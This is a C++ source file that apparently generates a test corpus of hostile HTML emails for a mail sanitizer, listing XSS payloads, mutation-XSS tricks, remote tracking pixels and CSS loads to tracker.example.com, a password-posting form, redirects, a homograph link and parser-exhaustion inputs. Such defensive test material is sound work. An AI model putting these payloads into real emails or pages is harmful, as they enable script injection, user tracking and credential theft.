#include "hostile_parts.h"

namespace frontdesk::mailgen {
namespace {

struct Attack {
  const char* name;
  const char* html;
};

// "tracker.example.com" must never be asked for anything; "alert" and "pwned" must never run.
constexpr Attack kAttacks[] = {
    {"script", "<script>document.title='pwned'</script>text"},
    {"script-src", "<script src=//tracker.example.com/x.js></script>text"},
    {"script-broken", "<scr<script>ipt>alert(1)</scr</script>ipt>text"},
    {"script-unclosed", "text<script>alert(1)"},
    {"onerror", "<img src=x onerror=alert(1)>text"},
    {"onload", "<body onload=alert(1)>text"},
    {"onerror-newline", "<img src=x\nonerror\n=\nalert(1)>text"},
    {"onmouse-unquoted", "<a href=# onmouseover=alert(1)//>text</a>"},
    {"svg-script", "<svg><script>alert(1)</script></svg>text"},
    {"svg-onload", "<svg/onload=alert(1)>text"},
    {"svg-use", "<svg><use href=\"data:image/svg+xml,<svg onload=alert(1)>\"/></svg>text"},
    {"svg-animate", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>text"},
    {"mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">text"},
    {"mxss-math",
     "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"},
    {"mxss-template", "<template><script>alert(1)</script></template>text"},
    {"mxss-style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">text"},
    {"mxss-textarea", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>text"},
    {"mxss-select",
     "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">"},
    {"css-url", "<div style=\"background:url(https://tracker.example.com/1.png)\">text</div>"},
    {"css-import", "<style>@import url(https://tracker.example.com/2.css);</style>text"},
    {"css-expression", "<div style=\"width:expression(alert(1))\">text</div>"},
    {"css-escaped", "<div style=\"background:u\\72l(https://tracker.example.com/3.png)\">text</div>"},
    {"css-comment", "<div style=\"background:url/**/(https://tracker.example.com/4.png)\">text</div>"},
    {"css-font", "<style>@font-face{font-family:x;src:url(https://tracker.example.com/5.woff)}</style>text"},
    {"css-overlay", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">text</div>"},
    {"css-behavior",
     "<div style=\"behavior:url(#default#time2);-moz-binding:url(//tracker.example.com/x)\">text</div>"},
    {"meta-refresh", "<meta http-equiv=refresh content=\"0;url=https://tracker.example.com/\">text"},
    {"base", "<base href=\"https://tracker.example.com/\"><a href=login>text</a>"},
    {"form", "<form action=https://tracker.example.com/ method=post><input name=password><button>text</button></form>"},
    {"formaction", "<button formaction=javascript:alert(1)>text</button>"},
    {"javascript-url", "<a href=\"javascript:alert(1)\">text</a>"},
    {"javascript-case", "<a href=\"JaVaScRiPt:alert(1)\">text</a>"},
    {"javascript-entity", "<a href=\"&#106;&#97;vascript&colon;alert(1)\">text</a>"},
    {"javascript-tab", "<a href=\"java\tscript:alert(1)\">text</a>"},
    {"javascript-control", "<a href=\"\x01javascript:alert(1)\">text</a>"},
    {"vbscript", "<a href=\"vbscript:msgbox(1)\">text</a>"},
    {"data-html", "<a href=\"data:text/html,<script>alert(1)</script>\">text</a>"},
    {"data-html-base64", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>text"},
    {"iframe-srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>text"},
    {"object", "<object data=https://tracker.example.com/x.swf></object><embed src=//tracker.example.com/y>text"},
    {"link",
     "<link rel=stylesheet href=https://tracker.example.com/6.css><link rel=prefetch "
     "href=//tracker.example.com/7>text"},
    {"pixel-src", "<img src=https://tracker.example.com/p.gif width=1 height=1>text"},
    {"pixel-srcset",
     "<img src=cid:x srcset=\"https://tracker.example.com/q.gif 1x, //tracker.example.com/r.gif 2x\">text"},
    {"pixel-background", "<table background=https://tracker.example.com/s.gif><tr><td>text</table>"},
    {"pixel-list-style", "<ul style=\"list-style-image:url('https://tracker.example.com/t.gif')\"><li>text</ul>"},
    {"pixel-picture", "<picture><source srcset=https://tracker.example.com/u.webp><img></picture>text"},
    {"pixel-video",
     "<video poster=https://tracker.example.com/v.png autoplay><source src=//tracker.example.com/w></video>text"},
    {"pixel-audio", "<audio src=https://tracker.example.com/a.mp3 autoplay></audio>text"},
    {"pixel-input", "<input type=image src=https://tracker.example.com/i.png>text"},
    {"pixel-lowsrc", "<img lowsrc=https://tracker.example.com/l.png dynsrc=//tracker.example.com/d>text"},
    {"pixel-bgsound", "<bgsound src=https://tracker.example.com/b.wav>text"},
    {"conditional", "<!--[if mso]><script>alert(1)</script><![endif]-->text"},
    {"cdata", "<![CDATA[<script>alert(1)</script>]]>text"},
    {"null-in-tag", "<scr\0ipt>alert(1)</scr\0ipt>text"},
    {"dom-clobber", "<form id=location><input name=href></form><a id=document>text</a>"},
    {"homograph", "<a href=\"https://xn--pple-43d.example.com/\">https://apple.example.com/</a>"},
};

std::string html_mail(std::string_view html) {
  return std::string("Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n<html><body>")
      .append(html)
      .append("</body></html>\r\n");
}

std::string repeated(std::string_view text, std::size_t count) {
  std::string out;
  for (std::size_t i = 0; i < count; ++i) out += text;
  return out;
}

}  // namespace

void add_html_mails(HostileList& list) {
  for (const Attack& attack : kAttacks) {
    list.add(std::string("html-") + attack.name, "active or remote content", html_mail(attack.html));
  }
  list.add("html-deep", "200,000 open elements", html_mail(repeated("<div>", 200'000) + "text"));
  list.add("html-quotes-deep", "100,000 open blockquotes", html_mail(repeated("<blockquote>", 100'000) + "text"));
  list.add("html-attributes", "an element with 50,000 attributes",
           html_mail("<p " + repeated("a=\"b\" ", 50'000) + ">text</p>"));
  list.add("html-unclosed-tags", "300,000 '<'", html_mail(repeated("<", 300'000) + "text"));
  list.add("html-unclosed-quotes", "50,000 unclosed quotes",
           html_mail(repeated("<a b='\"><a b=\"'>", 50'000) + "text"));
  list.add("html-entities", "200,000 entities", html_mail(repeated("&#x4F60;&amp;&bogus;&#99999999;", 50'000)));
  list.add("html-comments", "100,000 unclosed comments", html_mail(repeated("<!--", 100'000) + "text"));
  list.add("html-table", "a table of 30,000 cells",
           html_mail("<table>" + repeated("<tr><td>x<td>y", 15'000) + "</table>"));
}

}  // namespace frontdesk::mailgen
